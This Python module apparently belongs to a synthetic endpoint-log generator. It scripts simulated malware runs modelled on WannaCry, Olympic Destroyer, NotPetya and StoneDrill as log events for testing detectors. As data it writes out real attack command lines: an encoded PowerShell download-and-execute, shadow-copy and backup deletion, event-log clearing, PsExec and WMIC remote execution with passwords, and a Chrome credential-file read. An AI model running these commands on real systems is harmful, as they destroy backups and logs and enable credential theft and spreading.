"""Malware runs for the synthetic Mark II logs: what the sample does, on top of the office background.

A helper library of :mod:`mk2ds.plugins.synthetic.generator`. Each scenario is a function that writes a *story*
with a :class:`Story` (a time cursor with helpers for processes, files, registry, services, network and
injections). Stories declare the relations they create (``wrote-then-ran``, ``service``, ``inject``,
``guard-inject``) so that the generator can hand tests the ground truth.

The stories follow public descriptions of the families (WannaCry, Olympic Destroyer, NotPetya, StoneDrill)
and the log excerpts of the dataset's presentation slides; every name, address, hash and GUID is invented except PsExec's
public file properties.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from mk2ds.plugins.synthetic.background import DOCUMENTS, SYSTEM32, Office
from mk2ds.plugins.synthetic.world import Event, Host, Process, World, quote, short_user_name

__all__ = ["DEFAULT_EXTENSIONS", "SCENARIOS", "Sample", "Story"]

SERVICES_KEY = "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services"
RUN_KEY = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
CMD = f"{SYSTEM32}\\cmd.exe"
RUNDLL32 = f"{SYSTEM32}\\rundll32.exe"
POWERSHELL = f"{SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe"
WMIC = f"{SYSTEM32}\\wbem\\WMIC.exe"
IEXPLORE = "C:\\Program Files\\Internet Explorer\\iexplore.exe"
WINWORD = "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
PSEXEC_PROPERTIES = [
    ("sha256", "3337e3875b05e0bfba69ab926532e3f179e8cfbf162ebb60ce58a0281437a7ef"),
    ("company", quote("Sysinternals - www.sysinternals.com")),
    ("copyright", quote("Copyright (C) 2001-2016 Mark Russinovich")),
    ("fileDesc", quote("Execute processes remotely")),
    ("fileVer", quote("2.2")),
    ("product", quote("Sysinternals PsExec")),
    ("productVer", quote("2.2")),
    ("size", "339096"),
    ("sig", "Valid"),
    ("signer", quote("Microsoft Corporation")),
    ("issuer", quote("Microsoft Code Signing PCA 2011")),
    ("cerSN", quote("33 00 00 00 64 47 84 94 86 db 41 19 38 00 00 00 00 00 64")),
    ("validFrom", quote("10/29/2015 05:31:46.000")),
    ("validTo", quote("01/29/2017 05:31:46.000")),
]
#: File extension of the sample when the caller gives none.
DEFAULT_EXTENSIONS = {"petya": "dll", "script": "js"}


@dataclass(frozen=True)
class Sample:
    """The sample of a run: its sha256, where it lies on the host (``D:\\<sha256>.exe``) and its size."""

    sha256: str
    path: str
    size: int
    peer: str = "PC1"


class Story:
    """A time cursor over the world. Helpers append events at the cursor and return what they made."""

    def __init__(self, world: World, office: Office, begin: float, pace: float) -> None:
        self.world = world
        self.office = office
        self.time = begin
        self.pace = pace
        self.events: list[Event] = []
        self.profile = world.host.profile_folder
        self.temp = f"{self.profile}\\AppData\\Local\\Temp"

    def wait(self, low: float, high: float | None = None) -> None:
        """Advance the cursor by ``low`` seconds (or a random time up to ``high``), scaled by the pace."""
        self.time += (low if high is None else self.world.rng.uniform(low, high)) * self.pace

    def add(self, evt: str, sub: str, process: Process | None, *fields: tuple[str, str], after: float = 0.0) -> Event:
        event = self.world.event(self.time + after * self.pace, evt, sub, process, *fields)
        self.events.append(event)
        return event

    def start(self, parent: Process | None, path: str, cmd: str, **options: Any) -> Process:
        """Start a process; if some process wrote ``path`` earlier, record ``wrote-then-ran``."""
        child, event = self.world.spawn(parent, path, cmd, self.time, **options)
        self.events.append(event)
        written = self.world.written.get(path.lower())
        if written is not None:
            self.world.relate("wrote-then-ran", written[0], child, event, path=path, evidence=written[1])
        self.wait(0.02, 0.2)
        return child

    def run(self, parent: Process | None, path: str, cmd: str, duration: float = 0.5) -> Process:
        """Start a short-lived process and stop it ``duration`` seconds later (the cursor moves on less)."""
        child = self.start(parent, path, cmd)
        self.events.append(self.world.stop(child, self.time + duration * self.pace))
        return child

    def stop(self, process: Process) -> None:
        self.events.append(self.world.stop(process, self.time))
        self.wait(0.01, 0.05)

    def write(self, process: Process, path: str, size: int, sha256: str | None = None, hide: int = 0) -> None:
        self.events += self.world.write_file(process, path, self.time, size, sha256=sha256, hide=hide)
        self.wait(0.05, 0.3)

    def registry(self, process: Process, key: str, entry: str, value: str | int, value_type: str = "REG_SZ") -> Event:
        fields = [("path", quote(key)), ("entry", quote(entry)), ("valType", value_type)]
        if isinstance(value, int):
            fields += [("valNum", str(value)), ("valSize", "4")]
        else:
            fields += [("valStr", quote(value)), ("valSize", str(2 * len(value) + 2))]
        event = self.add("reg", "setVal", process, *fields)
        self.wait(0.001, 0.02)
        return event

    def register_service(self, registrar: Process, name: str, image: str) -> Event:
        """The registry lines of a new service; returns the ``ImagePath`` line."""
        key = f"{SERVICES_KEY}\\{name}"
        self.add("reg", "create", registrar, ("path", quote(key)))
        self.registry(registrar, key, "Type", 16, "REG_DWORD")
        self.registry(registrar, key, "Start", 2, "REG_DWORD")
        return self.registry(registrar, key, "ImagePath", image, "REG_EXPAND_SZ")

    def start_service(self, registrar: Process, image_event: Event, name: str, path: str, cmd: str) -> Process:
        """``services.exe`` starts a registered service: a ``service`` relation from the registrar."""
        service = self.start(self.office.services, path, cmd, user="SYSTEM", session_id=0)
        assert service.start_event is not None
        self.world.relate(
            "service", registrar, service, service.start_event, path=path, evidence=image_event, service=name, image=cmd
        )
        return service

    def inject(self, process: Process, target: Process, api: str, guarded: bool = False) -> None:
        fields = (("api", api), ("tpsGUID", target.guid), ("tpsPath", target.quoted_path))
        event = self.add("ps", "guardInject" if guarded else "inject", process, *fields)
        self.world.relate("guard-inject" if guarded else "inject", process, target, event, path=target.path, api=api)
        self.wait(0.01, 0.1)

    def connect(
        self,
        process: Process,
        address: str,
        port: int,
        recv: int = 0,
        send: int = 0,
        established: bool = True,
        host_name: str | None = None,
    ) -> None:
        duration = 0.0 if not established else self.world.rng.uniform(0.05, 0.4)
        self.events += self.world.connect(
            process,
            self.time,
            address,
            port,
            duration=duration,
            recv=recv,
            send=send,
            established=established,
            host_name=host_name,
        )
        self.wait(0.01, 0.2)

    def shadow_copy_wipe(self, parent: Process, commands: list[str]) -> None:
        """``cmd.exe /c`` with each command (vssadmin, wmic, bcdedit, wbadmin, wevtutil, ...) as a child."""
        for command in commands:
            shell = self.start(parent, CMD, f"{CMD} /c {command}")
            for part in command.split(" & "):
                tool = part.split()[0].rsplit("\\", 1)[-1].lower().removesuffix(".exe")
                path = WMIC if tool == "wmic" else f"{SYSTEM32}\\{tool}.exe"
                self.run(shell, path, part, duration=self.world.rng.uniform(0.3, 3.0))
                if tool == "wevtutil":
                    channel = part.split()[-1]
                    event_id, source = (
                        ("1102", "Microsoft-Windows-Eventlog")
                        if channel == "Security"
                        else ("104", "Microsoft-Windows-Eventlog")
                    )
                    self.add(
                        "os",
                        "evtLog",
                        None,
                        ("channel", quote(channel)),
                        ("evtRecID", str(self.world.rng.randrange(1, 99))),
                        ("evtID", event_id),
                        ("evtSrc", quote(source)),
                        ("evtUsr", quote(self.world.host.user)),
                        ("evtDomain", quote(self.world.host.domain)),
                        after=0.2,
                    )
            self.stop(shell)
            self.wait(0.5, 3)

    def documents(self, count: int) -> list[tuple[str, int]]:
        chosen = [(f"{self.profile}\\{relative}", size) for relative, size in DOCUMENTS]
        chosen += [
            (f"D:\\{name}", size)
            for name, size in (("transcript.txt", 7112), ("業務日報.docx", 30211), ("顧客リスト.xlsx", 64020))
        ]
        self.world.rng.shuffle(chosen)
        return chosen[:count]


def _launch_sample(story: Story, sample: Sample) -> Process:
    return story.start(story.office.explorer, sample.path, f'"{sample.path}" ', sha256=sample.sha256, size=sample.size)


def dropper(story: Story, sample: Sample) -> None:
    """A generic dropper: writes a payload under AppData, persists it in Run, starts it; the payload injects
    into the running explorer.exe and beacons."""
    world, office = story.world, story.office
    parent = _launch_sample(story, sample)
    story.wait(1, 4)
    name = world.rng.choice(["OneDriveSync", "AdobeUpdater", "JavaUpdate", "WinDefend32"])
    folder = f"{story.profile}\\AppData\\Roaming\\Microsoft\\{name}"
    story.add("file", "createDir", parent, ("path", quote(folder)), ("drvType", "HDD"))
    payload = f"{folder}\\{name.lower()}.exe"
    story.write(parent, payload, world.rng.randrange(90000, 400000))
    story.registry(parent, RUN_KEY, name, f'"{payload}" /background')
    child = story.start(parent, payload, f'"{payload}" /background')
    story.stop(parent)
    story.wait(2, 10)
    story.inject(child, office.explorer, "CreateRemoteThread")
    for _ in range(6):
        story.connect(
            office.explorer,
            "172.24.0.66",
            443,
            recv=world.rng.randrange(200, 3000),
            send=world.rng.randrange(200, 900),
            host_name="cdn.update-check.example",
        )
        story.wait(30, 120)
    story.add(
        "file",
        "close",
        office.explorer,
        ("path", quote(f"{story.profile}\\Documents\\見積書_2018年3月.xlsx")),
        ("drvType", "HDD"),
        ("read", "48213"),
        ("write", "0"),
        ("size", "48213"),
        ("hide", "0"),
        ("new", "0"),
    )


def script(story: Story, sample: Sample) -> None:
    """A script or macro sample (.js/.vbs via WScript, .doc via Word) that launches an encoded PowerShell
    download, whose payload persists, injects into explorer.exe and listens on a port."""
    world, office = story.world, story.office
    if sample.path.lower().endswith((".doc", ".docm", ".docx", ".xls", ".xlsm")):
        host = story.start(office.explorer, WINWORD, f'"{WINWORD}" /n "{sample.path}" /o ""')
        story.wait(2, 6)
        story.add("file", "enableMacro", host, ("path", quote(sample.path)))
    else:
        host = story.start(office.explorer, f"{SYSTEM32}\\WScript.exe", f'"{SYSTEM32}\\WScript.exe" "{sample.path}" ')
    story.wait(1, 3)
    command = "IEX (New-Object Net.WebClient).DownloadString('http://172.24.0.9/a.ps1')"
    encoded = base64.b64encode(command.encode("utf-16-le")).decode("ascii")
    shell = story.start(host, POWERSHELL, f"powershell.exe -NoP -NonI -W Hidden -EncodedCommand {encoded}")
    for name in ("New-Object", "Invoke-Expression", "Invoke-WebRequest", "Start-Process"):
        story.add("powerShell", "exec", shell, ("shCmd", quote(name)), ("cmdType", quote("Cmdlet")))
        story.wait(0.05, 0.5)
    story.connect(shell, "172.24.0.9", 80, recv=2211, send=380, host_name="files.lab.local")
    payload = f"{story.temp}\\svc_upd.exe"
    story.write(shell, payload, world.rng.randrange(60000, 200000))
    child = story.start(shell, payload, f'"{payload}" -k netsvc')
    story.stop(shell)
    story.stop(host)
    story.registry(child, RUN_KEY, "SvcUpdate", f'"{payload}" -k netsvc')
    story.inject(child, office.explorer, "WriteProcessMemory")
    story.inject(child, office.lsass, "OpenProcess", guarded=True)
    story.add("net", "lsn", child, ("port", "4444"))


def wannacry(story: Story, sample: Sample) -> None:
    """WannaCry: the dropper registers itself as a service (mssecsvc2.0) that scans port 445 of the
    neighbours, writes and starts tasksche.exe, which registers its own service; services.exe starts it, it
    encrypts (read, .WNCRYT, rename to .WNCRY, delete the original) and deletes shadow copies."""
    world = story.world
    dropper_process = _launch_sample(story, sample)
    story.wait(0.5, 2)
    service_cmd = f'"{sample.path}" -m security'
    spreader_image = story.register_service(dropper_process, "mssecsvc2.0", service_cmd)
    spreader = story.start_service(dropper_process, spreader_image, "mssecsvc2.0", sample.path, service_cmd)
    folder_name = world.token(14) + str(world.rng.randrange(100, 999))
    folder = f"C:\\ProgramData\\{folder_name}"
    story.add("file", "createDir", dropper_process, ("path", quote(folder)), ("drvType", "HDD"))
    tasksche = f"{folder}\\tasksche.exe"
    story.write(dropper_process, tasksche, 3514368)
    installer = story.start(dropper_process, tasksche, f"{tasksche} /i")
    story.stop(dropper_process)
    for name, size in (
        ("b.wnry", 1440054),
        ("c.wnry", 780),
        ("r.wnry", 864),
        ("s.wnry", 3038286),
        ("t.wnry", 65816),
        ("u.wnry", 245760),
        ("taskdl.exe", 20480),
        ("taskse.exe", 20480),
    ):
        story.write(installer, f"{folder}\\{name}", size)
    image_event = story.register_service(installer, folder_name, f'"{tasksche}"')
    encryptor = story.start_service(installer, image_event, folder_name, tasksche, f'"{tasksche}"')
    story.stop(installer)
    story.run(encryptor, f"{SYSTEM32}\\attrib.exe", "attrib +h .")
    story.run(encryptor, f"{SYSTEM32}\\icacls.exe", "icacls . /grant Everyone:F /T /C /Q", duration=4)
    run_value = f'cmd.exe /c reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v "{folder_name}" /t REG_SZ /d "\\"{tasksche}\\"" /f'
    story.run(encryptor, CMD, run_value)
    spread_time, story.time = story.time, story.time + 5 * story.pace
    for target in range(2, 2 + world.rng.randrange(6, 12)):
        story.connect(
            spreader,
            f"172.24.1.{target}",
            445,
            recv=world.rng.choice([0, 132, 637]),
            send=world.rng.choice([72, 516]),
            established=world.rng.random() < 0.6,
        )
    story.time = spread_time
    delete_later: list[tuple[str, int, str]] = []
    for path, size in story.documents(8):
        original = world.hex(64)
        story.add(
            "file",
            "close",
            encryptor,
            ("path", quote(path)),
            ("drvType", "HDD"),
            ("read", str(size + 8)),
            ("write", "0"),
            ("sha256", original),
            ("sTime", world.clock(story.time)),
            ("size", str(size)),
        )
        temporary = f"{path[:3]}~SD{world.hex(4).upper()}.tmp"
        story.add("file", "create", encryptor, ("path", quote(temporary)), ("drvType", "HDD"))
        encrypted_size = (size + 15) // 16 * 16 + 288
        story.write(encryptor, f"{path}.WNCRYT", encrypted_size)
        story.add(
            "file",
            "rename",
            encryptor,
            ("path", quote(f"{path}.WNCRYT")),
            ("drvType", "HDD"),
            ("dstPath", quote(f"{path}.WNCRY")),
            ("dstDrv", "HDD"),
            ("size", str(encrypted_size)),
        )
        story.add(
            "file",
            "del",
            encryptor,
            ("path", quote(temporary)),
            ("drvType", "HDD"),
            ("size", "0"),
            ("hide", "1"),
            after=0.001,
        )
        delete_later.append((path, size, original))
        story.wait(0.05, 0.6)
    story.write(encryptor, f"{story.profile}\\Desktop\\@Please_Read_Me@.txt", 933)
    decryptor_path = f"{folder}\\@WanaDecryptor@.exe"
    story.write(encryptor, decryptor_path, 245760)
    decryptor = story.start(encryptor, decryptor_path, "@WanaDecryptor@.exe co")
    story.add("win", "active", decryptor, ("winTitle", quote("Wana Decrypt0r 2.0")))
    story.shadow_copy_wipe(
        decryptor,
        [
            "vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} bootstatuspolicy ignoreallfailures & bcdedit /set {default} recoveryenabled no & wbadmin delete catalog -quiet"
        ],
    )
    story.wait(20, 60)
    for path, size, original in delete_later:
        story.add(
            "file",
            "del",
            encryptor,
            ("path", quote(path)),
            ("drvType", "HDD"),
            ("sha256", original),
            ("size", str(size)),
        )
        story.wait(0.01, 0.1)
    story.run(encryptor, f"{folder}\\taskdl.exe", "taskdl.exe", duration=1)


def olympic(story: Story, sample: Sample) -> None:
    """Olympic Destroyer: drops PsExec as _jsh.exe and spreads with stolen credentials, then deletes shadow
    copies and backups, breaks booting, clears event logs and disables services."""
    world, office = story.world, story.office
    host = world.host
    parent = _launch_sample(story, sample)
    story.wait(1, 3)
    psexec = f"{story.temp}\\_jsh.exe"
    payload = f"{story.temp}\\_bbh.exe"
    story.write(parent, psexec, 339096, sha256=PSEXEC_PROPERTIES[0][1])
    story.write(parent, payload, sample.size, sha256=sample.sha256)
    for _ in range(2):
        stealer = f"{story.temp}\\{world.guid()[1:-1]}.tmp"
        story.write(parent, stealer, world.rng.randrange(80000, 130000))
        child = story.start(parent, stealer, f'"{stealer}" \\\\.\\pipe\\{world.guid()}')
        story.add(
            "file",
            "close",
            child,
            ("path", quote(f"{story.profile}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data")),
            ("drvType", "HDD"),
            ("read", "20480"),
            ("write", "0"),
            ("size", "20480"),
            ("hide", "0"),
            ("new", "0"),
        )
        story.stop(child)
    short_temp = f"C:\\Users\\{short_user_name(host.user)}\\AppData\\Local\\Temp"
    password = "S0lit0n"
    for target in ("172.24.0.1", f"172.24.1.{host.index % 250 + 1}"):
        cmd = f'\\\\{target} -u "{host.name}\\{host.user}" -p "{password}" -accepteula -d -s -c -f "{short_temp}\\_bbh.exe"'
        runner = story.start(parent, psexec, cmd, properties=list(PSEXEC_PROPERTIES))
        story.connect(
            runner, target, 445, recv=world.rng.randrange(2000, 9000), send=world.rng.randrange(300000, 400000)
        )
        story.connect(runner, target, 135, recv=420, send=380)
        story.stop(runner)
    story.run(
        parent,
        WMIC,
        f'wmic.exe /node:"172.24.1.{host.index % 250 + 2}" /user:"{host.name}\\{host.user}" /password:"{password}" process call create "C:\\Windows\\_bbh.exe"',
        duration=2,
    )
    story.wait(5, 20)
    story.shadow_copy_wipe(
        parent,
        [
            "c:\\Windows\\system32\\vssadmin.exe delete shadows /all /quiet",
            "wbadmin.exe delete catalog -quiet",
            "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures & bcdedit.exe /set {default} recoveryenabled no",
            "wevtutil.exe cl System",
            "wevtutil.exe cl Security",
        ],
    )
    for service in ("wuauserv", "BITS", "VSS", "WinDefend", "EventLog"):
        story.registry(office.services, f"{SERVICES_KEY}\\{service}", "Start", 4, "REG_DWORD")


def petya(story: Story, sample: Sample) -> None:
    """NotPetya-like: a DLL run by rundll32 schedules a reboot, drops a credential tool and PsExec, spreads
    by PsExec and WMIC, clears logs, deletes the NTFS journal and writes to the physical disk."""
    world, office = story.world, story.office
    host = world.host
    runner = story.start(office.explorer, RUNDLL32, f'"{RUNDLL32}" "{sample.path}",#1 30')
    story.write(runner, "C:\\Windows\\perfc.dat", sample.size, sha256=sample.sha256)
    story.shadow_copy_wipe(
        runner,
        ['schtasks /RU "SYSTEM" /Create /SC once /TN "" /TR "C:\\Windows\\system32\\shutdown.exe /r /f" /ST 20:13'],
    )
    tool = f"{story.temp}\\{world.hex(4).upper()}.tmp"
    story.write(runner, tool, 55872)
    story.run(runner, tool, f'"{tool}" \\\\.\\pipe\\{world.guid()}', duration=4)
    story.write(runner, "C:\\Windows\\dllhost.dat", 339096, sha256=PSEXEC_PROPERTIES[0][1])
    neighbour = f"172.24.1.{host.index % 250 + 1}"
    spreader = story.start(
        runner,
        "C:\\Windows\\dllhost.dat",
        f'C:\\Windows\\dllhost.dat \\\\{neighbour} -accepteula -s -d C:\\Windows\\System32\\rundll32.exe "C:\\Windows\\perfc.dat",#1 30',
    )
    story.connect(spreader, neighbour, 445, recv=6120, send=368201)
    story.stop(spreader)
    story.run(
        runner,
        WMIC,
        f'"{WMIC}" /node:"172.24.1.{host.index % 250 + 2}" /user:"{host.domain}\\{host.user}" /password:"Passw0rd!" process call create "C:\\Windows\\System32\\rundll32.exe \\"C:\\Windows\\perfc.dat\\" #1 30"',
        duration=2,
    )
    for target in range(2, 9):
        story.connect(runner, f"172.24.1.{target}", world.rng.choice([139, 445]), established=world.rng.random() < 0.5)
    story.shadow_copy_wipe(
        runner,
        [
            "wevtutil cl Setup & wevtutil cl System & wevtutil cl Security & wevtutil cl Application & fsutil usn deletejournal /D C:"
        ],
    )
    story.add(
        "file",
        "close",
        runner,
        ("path", quote("\\\\.\\PhysicalDrive0")),
        ("drvType", "HDD"),
        ("read", "512"),
        ("write", "17408"),
        ("hide", "0"),
        ("new", "0"),
    )
    for path, size in story.documents(5):
        story.add(
            "file",
            "close",
            runner,
            ("path", quote(path)),
            ("drvType", "HDD"),
            ("read", str(size)),
            ("write", str(size)),
            ("size", str(size)),
            ("hide", "0"),
            ("new", "0"),
        )
        story.wait(0.1, 0.8)
    story.write(runner, "C:\\README.TXT", 1226)


def stonedrill(story: Story, sample: Sample) -> None:
    """StoneDrill-like wiper: starts a hidden browser, injects into it, and the browser wipes documents."""
    office = story.office
    parent = _launch_sample(story, sample)
    browser = story.start(parent, IEXPLORE, f'"{IEXPLORE}" -Embedding')
    story.inject(parent, browser, "WriteProcessMemory")
    story.stop(parent)
    story.connect(browser, "172.24.0.66", 443, established=False)
    for path, size in story.documents(9):
        story.add(
            "file",
            "close",
            browser,
            ("path", quote(path)),
            ("drvType", "HDD"),
            ("read", "0"),
            ("write", str(size)),
            ("size", str(size)),
            ("hide", "0"),
            ("new", "0"),
        )
        story.add("file", "del", browser, ("path", quote(path)), ("drvType", "HDD"), after=0.05)
        story.wait(0.2, 2)
    story.add("windowsDefender", "dtctMalState", None)
    story.registry(office.explorer, RUN_KEY, "ieupdate", f'"{IEXPLORE}" -nohome')


def lateral(story: Story, sample: Sample) -> None:
    """The receiving side of lateral movement: a network logon from the peer, a payload written over SMB,
    PSEXESVC registered and started by services.exe, the payload started by it."""
    world, office = story.world, story.office
    peer = Host.create(sample.peer).ip
    port = world.rng.randrange(49152, 65535)
    record = world.rng.randrange(80000, 99000)
    story.add(
        "session",
        "loginR",
        None,
        ("usr", quote(world.host.user)),
        ("usrDomain", quote(world.host.domain)),
        ("srcCom", quote(sample.peer)),
        ("srcIP", quote(peer)),
        ("srcPort", quote(str(port))),
        ("sessionID", "0"),
        ("evtRecID", str(record)),
    )
    story.add(
        "os",
        "evtLog",
        None,
        ("channel", quote("Security")),
        ("evtRecID", str(record)),
        ("evtID", "4624"),
        ("evtSrc", quote("Microsoft-Windows-Security-Auditing")),
        ("evtUsr", quote(world.host.user)),
        ("evtDomain", quote("")),
        ("logonType", quote("Network(3)")),
        ("wsName", quote(sample.peer)),
        ("wsIp", quote(peer)),
        ("wsPort", str(port)),
        after=0.001,
    )
    fields = [("srcIP", peer), ("srcPort", str(port)), ("dstIP", world.host.ip), ("dstPort", "445")]
    story.add("net", "acpt", office.system, *fields)
    story.wait(0.2, 1)
    story.write(office.system, "C:\\Windows\\PSEXESVC.exe", 181064)
    story.write(office.system, sample.path, sample.size, sha256=sample.sha256)
    image = story.register_service(office.services, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    service = story.start_service(
        office.services, image, "PSEXESVC", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe"
    )
    if sample.path.lower().endswith((".dll", ".dat")):
        payload = story.start(service, RUNDLL32, f'C:\\Windows\\System32\\rundll32.exe "{sample.path}",#1 30')
    else:
        payload = story.start(service, sample.path, f'"{sample.path}" ', sha256=sample.sha256)
    story.shadow_copy_wipe(payload, ["vssadmin delete shadows /all /quiet"])
    story.add(
        "net", "dcon", office.system, *fields, ("recv", str(world.rng.randrange(300000, 400000))), ("send", "5120")
    )
    story.stop(service)


def benign(story: Story, sample: Sample) -> None:
    """No sample: the office background alone (the ``Normal`` logs of the dataset)."""


#: Scenario name → story function.
SCENARIOS: dict[str, Callable[[Story, Sample], None]] = {
    "benign": benign,
    "dropper": dropper,
    "script": script,
    "wannacry": wannacry,
    "olympic": olympic,
    "petya": petya,
    "stonedrill": stonedrill,
    "lateral": lateral,
}
